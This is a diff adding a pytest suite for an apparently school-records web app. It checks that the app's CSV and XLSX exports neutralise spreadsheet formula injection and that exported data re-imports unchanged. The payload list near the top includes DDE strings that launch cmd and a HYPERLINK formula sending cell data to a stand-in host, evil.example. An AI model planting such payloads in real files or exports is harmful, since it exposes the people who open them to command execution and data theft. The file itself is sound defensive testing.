@@ -1,0 +1,172 @@
+"""Text that a spreadsheet would run as a formula, in every field that leaves the house, through every export and back."""
+
+import csv
+import io
+import json
+import unicodedata
+import zipfile
+from itertools import islice, product
+from xml.etree import ElementTree
+
+import openpyxl
+import pytest
+
+from blueprints.kit.text import clean, fold
+from blueprints.students import import_rows, imports
+from blueprints.students.queries import search_keys
+from models import (
+    BulkClosing,
+    Category,
+    Event,
+    ImportRun,
+    Incident,
+    OutboxEmail,
+    Student,
+)
+from tests import factories
+from tests.access.routes import samples
+from tests.access.visitor import undone
+
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠", "﹦", "\x00=", "\x1f=",
+          "'=", '"=', "x;=", "x\n=", "x\t=", ";=", "%=")  # fmt: skip
+BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Open")', "SUM(1)*cmd|' /C x'!A0")
+PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]
+
+
+def shorter(payload, size=200):
+    return clean(payload)[:size].replace("\n", " ").replace("\t", " ")
+
+
+@pytest.fixture
+def hostile(app, school, full):
+    """Each payload in every kind of text that an export carries; returns those that are in play."""
+    payloads = PAYLOADS if full else PAYLOADS[::4]
+    assert len(PAYLOADS) == 100
+    for number, payload in enumerate(payloads):
+        text = payload.replace("\0", "")
+        student = factories.student(text, text, admission_number=f"F{number:03}", year_group=f"{text[:20]}{number}"[:30],
+                                    tutor_group=text[:40], upn=f"{text[:15]}{number}", email=f"f{number}@pupils.example.org")  # fmt: skip
+        keys = search_keys(text, text, "", student.admission_number, student.email)
+        Student.update(**keys).where(Student.id == student.id).execute()
+        category = factories.category(text[:200], guidance=text)
+        author = factories.account(text, f"f{number}@school.example.org", title=text[:200])
+        factories.incident(author, [(student, [category])], text, place=text[:200], alerted=[school.cast.kay])
+        factories.group(f"{text[:100]} {number}", department=f"{text[:100]} {number}")
+        Event.create(actor=author, verb="access.denied", target=text[:100], data=json.dumps({"asked": text, "how": "GET"}), address=text[:40])
+        OutboxEmail.create(kind="invitation", account=author, message_id=f"f{number}", failed_at=student.created_at, is_waiting=False,
+                           last_error=text)  # fmt: skip
+    rows = [[number, "refused", payload, payload, ""] for number, payload in enumerate(payloads)]
+    counts = dict.fromkeys(("added", "changed", "same", "left"), 0) | {"refused": len(rows), "active": 1}
+    ImportRun.update(result=json.dumps(rows), counts=json.dumps(counts)).execute()
+    assert Category.select().count() > len(payloads) and BulkClosing.select().count() == 1
+    return payloads
+
+
+def live_in_csv(body):
+    """The cells of a CSV file that a spreadsheet would take for a formula, by any of the separators it may be set to."""
+    text = body.decode("utf-8-sig")
+    found = []
+    for separator in ",;\t":
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+            found += [cell for cell in row if is_live(cell)]
+    return found
+
+
+def is_live(cell):
+    """Whether the first thing to be seen in a cell starts a formula; a number that is only a number does not."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        pass
+    visible = "".join(letter for letter in cell if unicodedata.category(letter)[0] not in "ZC")
+    return visible[:1] != "" and unicodedata.normalize("NFKC", visible[0])[:1] in "=+-@" or cell[:1] in "\t\r"
+
+
+def live_in_xlsx(body):
+    """Formulas in a workbook, and cells that openpyxl or Excel would read as one."""
+    found = []
+    with zipfile.ZipFile(io.BytesIO(body)) as packed:
+        for name in packed.namelist():
+            if name.startswith("xl/worksheets/"):
+                tags = [element.tag.rpartition("}")[2] for element in ElementTree.fromstring(packed.read(name)).iter()]
+                found += [f"<{tag}>" for tag in tags if tag in ("f", "hyperlink", "dataValidation", "webPublishItem")]
+            if "externalLink" in name or "vbaProject" in name:
+                found.append(name)
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    found += [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    return found
+
+
+def exports(app, school):
+    return [(endpoint, url) for endpoint, _, url in samples(app, school, every=True) if url.endswith((".csv", ".xlsx"))]
+
+
+def asked(url):
+    """With what it takes for the export to have rows."""
+    if "bulk-closing.csv" in url or "bulk-closing.xlsx" in url:
+        return f"{url}?from=2020-01-01&to={Incident.select().order_by(Incident.happened_at.desc()).get().happened_at.date()}"
+    if "/students/export" in url:
+        return f"{url}?show=all"
+    return url
+
+
+def test_no_export_has_a_live_cell(app, school, visitors, hostile, figure):
+    found, cells, routes = [], 0, exports(app, school)
+    assert len({endpoint for endpoint, _ in routes}) >= 9
+    for _, url in routes:
+        with undone():
+            answer = visitors["ada"].get(asked(url))
+        assert answer.status == 200, answer
+        assert "attachment" in dict(answer.headers)["Content-Disposition"]
+        if url.endswith(".csv"):
+            cells += answer.body.count(b",")
+            found += [f"{url}: {cell[:60]!r}" for cell in live_in_csv(answer.body)]
+        else:
+            found += [f"{url}: {cell[:60]!r}" for cell in live_in_xlsx(answer.body)]
+    assert not found, f"{len(found)} live cells:\n" + "\n".join(found[:20])
+    figure("formulas", f"{len(hostile)} payloads in every text × {len(routes)} exports: 0 live cells")
+
+
+def test_the_check_knows_a_live_cell_when_it_sees_one():
+    for cell in ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1", " =1+1", "\ufeff=1", "x;=1+1"):
+        assert live_in_csv(f'a,"{cell}"\n'.encode()), cell
+    for cell in ("-5", "1.5", "Ann", "'=1+1", "2026-11-14", "Ann - Finch"):
+        assert not live_in_csv(f'a,"{cell}"\n'.encode()), cell
+    book = openpyxl.Workbook()
+    book.active["A1"] = "=1+1"
+    target = io.BytesIO()
+    book.save(target)
+    assert live_in_xlsx(target.getvalue())
+
+
+def test_every_export_was_hostile_enough(app, school, visitors, hostile):
+    """Most payloads did reach the exports of what they stand in, so that their absence would show."""
+    sums = {"/students/export.csv?show=all": 0.9, "/incidents/export.csv": 0.9, "/admin/users.csv": 0.9, "/admin/categories.csv": 0.9,
+            "/admin/groups.csv": 0.9, "/admin/audit.csv": 0.9}  # fmt: skip
+    for url, share in sums.items():
+        with undone():
+            text = fold(visitors["ada"].get(url).text)
+        there = [payload for payload in hostile if fold(shorter(payload, 12)).strip("=+-@ '\"")[:6] in text]
+        assert len(there) >= share * len(hostile), f"{url} carries only {len(there)} of {len(hostile)}"
+
+
+def test_an_export_that_is_imported_again_changes_nothing(app, school, visitors, hostile):
+    """Out and back: what stands before a cell to keep it quiet does not become part of the name."""
+    with undone():
+        answer = visitors["ada"].get("/students/export.csv?show=all")
+    names = {row.admission_number: (row.first_name, row.last_name) for row in Student.select()}
+    with app.app_context():
+        run = imports.upload(answer.body, "students.csv", actor=school.cast.ada, folder=app.settings.files)
+        sheet = imports.sheet_of(run, app.settings.files)
+        imports.set_mapping(run, import_rows.guess(sheet.header), deactivate=False, actor=school.cast.ada)
+        imports.run_waiting()
+    run = ImportRun.get_by_id(run.id)
+    rows = json.loads(run.result)
+    refused = [row for row in rows if row[1] == "refused"]
+    changed = [row for row in rows if row[1] == "changed"]
+    added = [row for row in rows if row[1] == "added"]
+    assert not added, f"came back as somebody new: {added[:3]}"
+    assert not changed, f"{len(changed)} came back changed: {list(islice(changed, 3))}"
+    assert not refused, f"{len(refused)} came back refused: {list(islice(refused, 3))}"
+    assert names == {row.admission_number: (row.first_name, row.last_name) for row in Student.select()}
